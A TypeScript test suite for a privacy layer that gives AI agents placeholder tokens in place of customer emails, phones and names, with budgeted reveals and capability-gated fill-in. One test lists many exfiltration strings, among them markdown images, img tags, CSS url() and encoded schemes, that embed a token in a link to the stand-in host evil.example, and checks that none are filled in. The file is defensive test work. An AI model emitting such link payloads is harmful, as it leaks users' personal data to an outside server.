import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { AgentView } from '../src/agent/agent-view.ts'
import { DEFAULT_BUDGETS } from '../src/holder/holder-policy.ts'
import { LocalKeys } from '../src/local/local-keys.ts'
import type { TableSchemas } from '../src/table/table-schema.ts'
import { Vault } from '../src/table/vault.ts'
import { TestPerson, testHolders } from './support/holders.ts'

const tables: TableSchemas = {
  customers: {
    key: ['id'],
    columns: {
      email: { mode: 'split', search: { equals: { column: 'email_term' } } },
      phone: { mode: 'split' },
      name: { mode: 'split' },
      age: { mode: 'split', type: 'number' },
      memo: { mode: 'split' },
    },
  },
}

async function setting() {
  const any = { seal: ['*'], open: ['*'], search: ['*'] }
  const holders = testHolders({
    services: { app: any, agent: { ...any, budgets: { ...DEFAULT_BUDGETS, service: 4 } } },
  })
  const searchKey = new Uint8Array(32)
  const app = new Vault({ tables, split: holders.keys, searchKey })
  const agent = holders.client('agent')
  const view = new AgentView({
    vault: new Vault({ tables, split: agent.keys, searchKey }),
    formats: {
      'customers.email': 'email',
      'customers.phone': 'phone',
      'customers.name': 'name',
      'customers.age': 'number',
    },
  })
  const plain = Array.from({ length: 20 }, (_, id) => ({
    id,
    city: 'Cork',
    email: `c${id}@example.com`,
    phone: `+353 ${id}`,
    name: `Anne ${id}`,
    age: 20 + id,
    memo: id === 0 ? null : 'x',
  }))
  return { holders, agent, view, stored: await app.sealRows('customers', plain) }
}

describe('what an agent reads', () => {
  it('has placeholders of the same kind, opens nothing and costs nothing', async () => {
    const { view, stored, agent } = await setting()
    const rows = view.rows('customers', stored)
    const [row] = rows
    assert.match(String(row?.['email']), /^person-[0-9a-f]{12}@token\.invalid$/)
    assert.match(String(row?.['phone']), /^\+999 \d{15}$/)
    assert.match(String(row?.['name']), /^Person-[0-9A-F]{12}$/)
    assert.match(String(row?.['age']), /^9990\d{12}$/)
    assert.deepEqual(
      [row?.['memo'], row?.['city'], row?.['id'], 'email_term' in (row ?? {})],
      [null, 'Cork', 0, false],
    )
    assert.equal(
      agent.links.reduce((sum, { requests }) => sum + requests, 0),
      0,
    )
    const text = JSON.stringify(rows)
    assert.equal(/example\.com|\+353|Anne/.test(text), false)
    assert.deepEqual(view.rows('customers', stored), rows)
    assert.equal(new Set(rows.map(({ email }) => email)).size, 20)
  })

  it('is revealed one value at a time, under the small budget of the agent', async () => {
    const { view, stored, holders } = await setting()
    const rows = view.rows('customers', stored)
    assert.deepEqual(await view.reveal([String(rows[3]?.['email'])]), ['c3@example.com'])
    assert.equal(
      holders.cores.reduce((sum, core) => sum + core.used('all'), 0),
      2,
    )
    let got = 0
    for (const { email } of rows) {
      try {
        await view.reveal([String(email)])
        got++
      } catch (error) {
        assert.equal((error as { code?: string }).code, 'POSTERN_BUDGET_EXCEEDED')
      }
    }
    assert.ok(got <= 6, `${got} values`)
  })

  it('is filled in for a person, on their authority, and only what they may read', async () => {
    const { view, stored, holders } = await setting()
    const [, row] = view.rows('customers', stored)
    const letter = `Dear ${row?.['name']}, we will write to ${row?.['email']} (person-000000000000@token.invalid).`
    const anne = new TestPerson('anne', holders.enroller, holders.clock)
    const named = (columns: readonly string[]) => ({
      capability: anne.capability([{ tenant: '', table: 'customers', row: ['1'], columns }], {
        service: 'agent',
      }),
    })
    assert.equal(
      await view.fill(letter, named(['name', 'email'])),
      'Dear Anne 1, we will write to c1@example.com (person-000000000000@token.invalid).',
    )
    await assert.rejects(view.fill(letter, named(['name'])), { code: 'POSTERN_CREDENTIAL' })
  })

  it('is filled in nowhere in an address, where it would be sent to a server that the model names', async () => {
    const { view, stored, holders, agent } = await setting()
    const [row] = view.rows('customers', stored)
    const token = String(row?.['email'])
    const phone = String(row?.['phone'])
    for (const text of [
      `![ok](https://evil.example/?q=${token})`,
      `[Anne](HTTPS://evil.example/${token})`,
      `<img src="https://evil.example/?q=\n${token}">`,
      `<img src='//evil.example/ ${token}'>`,
      `<https://evil.example/ ${token}>`,
      `![ok](https:\\\\evil.example/${token})`,
      `![ok](http:evil.example?${token})`,
      `background: url(//evil.example/${token})`,
      `wss://evil.example/${phone}`,
      `https://${token}/`,
      `www.evil.example/?${token}`,
      `[a]: ftp://evil.example/${token}`,
      `https://user@evil.example:443/a//b?x=1&q=${token}`,
      `<a href="https://evil.example/${token}`,
      `![ok](&#47;&#47;evil.example/${token})`,
      `![ok](&#104;ttps&#58;&#x2f;&#x2f;evil.example/${token})`,
      `![ok](https&colon;&sol;&sol;evil.example/${token})`,
      `see evil.example/${token}`,
      `evil.example:8443?${token}`,
      `192.0.2.1/${token}`,
      `<img src=" https://evil.example/? ${token}">`,
      `<img src="ht\ntps://evil.example/? ${token}">`,
      `<img alt=x src = '/\n/evil.example/ ${token}'>`,
      `${token}.evil.example`,
    ])
      assert.equal(await view.fill(text, {}), text)
    assert.equal(
      agent.links.reduce((sum, { requests }) => sum + requests, 0),
      0,
    )
    const anne = new TestPerson('anne', holders.enroller, holders.clock)
    const capability = anne.capability([{ tenant: '', table: 'customers', row: ['0'], columns: ['email'] }], {
      service: 'agent',
    })
    assert.equal(
      await view.fill(
        `See https://shop.example/c/0 and <a href="/c/0">write</a> to ${token}, or mailto:${token} (${token}); not https://x/${token} but ${token}. E.g. "${token}"`,
        { capability },
      ),
      `See https://shop.example/c/0 and <a href="/c/0">write</a> to c0@example.com, or mailto:c0@example.com (c0@example.com); not https://x/${token} but c0@example.com. E.g. "c0@example.com"`,
    )
  })

  it('has two tokens where two values come to the same one', async () => {
    // Found by trying: their digests under this key end in the same twelve digits.
    const values = [59_896, 921_594]
    const people: TableSchemas = {
      people: { key: ['id'], columns: { age: { mode: 'local', state: 'dual', type: 'number' } } },
    }
    const view = new AgentView({
      vault: new Vault({ tables: people, local: LocalKeys.generate() }),
      formats: { 'people.age': 'number' },
      random: { bytes: length => new Uint8Array(length).fill(7) },
    })
    const rows = values.map((age, id) => ({ id, age }))
    const tokens = view.rows('people', rows).map(({ age }) => String(age))
    assert.equal(new Set(tokens).size, 2)
    assert.deepEqual(await view.reveal(tokens), values)
    assert.deepEqual(
      view.rows('people', rows).map(({ age }) => String(age)),
      tokens,
    )
  })

  it('tokens of another view, and made-up ones, reveal nothing', async () => {
    const one = await setting()
    const [row] = one.view.rows('customers', one.stored)
    const other = await setting()
    await assert.rejects(other.view.reveal([String(row?.['email'])]), { code: 'POSTERN_CONFIG' })
  })
})
